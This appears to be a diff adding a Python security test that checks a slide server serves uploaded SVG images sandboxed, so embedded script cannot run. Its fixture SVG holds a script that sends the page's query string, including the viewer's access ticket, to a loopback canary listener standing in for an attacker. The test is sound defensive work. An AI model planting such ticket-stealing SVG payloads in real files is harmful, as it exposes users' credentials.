@@ -1,0 +1,137 @@
+"""A scripting SVG in a deck someone sent: phones may see it, never run it (issue 33, item 4).
+
+Real server, real Chromium: the phone opens the picture's URL on its own, as a tap on
+a shared link would, and a canary listener on loopback counts every request the
+picture tries to make.
+"""
+
+from __future__ import annotations
+
+import http.client
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser
+
+from tests.support.serving import Server, start_server
+
+DECK = """---
+title: Zugeschickt
+---
+
+# Ein Bild
+
+![Ein harmloses Diagramm](diagramm.svg)
+"""
+
+# Everything an SVG may try: a script (a synchronous request, so it is made before
+# the page has loaded), an onload handler and a picture from another server.
+SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"
+     onload="document.documentElement.setAttribute('data-onload', 'ran')">
+  <rect width="200" height="100" fill="#0b3a82"/>
+  <image href="http://127.0.0.1:{port}/bild.png" width="20" height="20"/>
+  <script>
+    document.documentElement.setAttribute("data-script", "ran");
+    const request = new XMLHttpRequest();
+    request.open("GET", "http://127.0.0.1:{port}/ticket?" + encodeURIComponent(location.search), false);
+    request.send();
+  </script>
+</svg>
+"""
+
+
+class Canary:
+    """A listener on loopback that counts who knocks."""
+
+    def __init__(self) -> None:
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.port = self.socket.getsockname()[1]
+        self.knocks = 0
+        self.thread = threading.Thread(target=self._listen, daemon=True)
+        self.thread.start()
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:  # closed
+                return
+            self.knocks += 1
+            connection.close()
+
+    def close(self) -> None:
+        self.socket.close()
+
+
+@pytest.fixture
+def canary() -> Iterator[Canary]:
+    listening = Canary()
+    yield listening
+    listening.close()
+
+
+@pytest.fixture
+def svg_server(tmp_path: Path, canary: Canary) -> Iterator[Server]:
+    deck = tmp_path / "zugeschickt.md"
+    deck.write_text(DECK, encoding="utf-8")
+    (tmp_path / "diagramm.svg").write_text(SVG.format(port=canary.port), encoding="utf-8")
+    server = start_server(tmp_path / "zugeschickt.impuls", deck)
+    yield server
+    assert server.stop() == 0, server.stderr
+
+
+def test_an_svg_opened_on_its_own_runs_nothing_and_loads_nothing(
+    browser: Browser, svg_server: Server, canary: Canary
+) -> None:
+    server = svg_server
+    ticket = server.ticket("neugierig")
+    room = {"slide": 0, "blank": "none", "follow": True}
+    assert server.call("PUT", "/api/room", room, token=server.token)[0] == 200
+    path = f"/api/slides/0/images/0?ticket={ticket}"
+
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        requested: list[str] = []
+        # Chromium announces a request before its policy blocks it: count what got through.
+        page.on("requestfinished", lambda request: requested.append(request.url))
+        url = f"http://127.0.0.1:{server.port}{path}"
+        answer = page.goto(url, wait_until="load")
+        assert answer is not None and answer.status == 200
+        ran = page.evaluate(
+            "[document.documentElement.getAttribute('data-script'),"
+            " document.documentElement.getAttribute('data-onload')]"
+        )
+        assert ran == [None, None]  # before: ["ran", "ran"]
+        assert requested == [url]
+        assert canary.knocks == 0  # before: the script's request, with the ticket
+
+        # In a page's <img>, as the phone page shows it, it still draws.
+        page.goto(f"http://127.0.0.1:{server.port}/", wait_until="load")
+        width = page.evaluate(
+            """(url) => new Promise((done) => {
+                const picture = new Image();
+                picture.onload = () => done(picture.naturalWidth);
+                picture.onerror = () => done(0);
+                picture.src = url;
+            })""",
+            url,
+        )
+        assert width == 200
+        assert canary.knocks == 0
+    finally:
+        context.close()
+
+    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
+    connection.request("GET", path)
+    response = connection.getresponse()
+    body = response.read()
+    connection.close()
+    assert response.status == 200 and b"<svg" in body  # a picture that may draw
+    assert response.getheader("Content-Type", "").startswith("image/svg+xml")
+    policy = response.getheader("Content-Security-Policy", "")
+    assert "default-src 'none'" in policy and "sandbox" in policy
+    assert response.getheader("X-Content-Type-Options") == "nosniff"
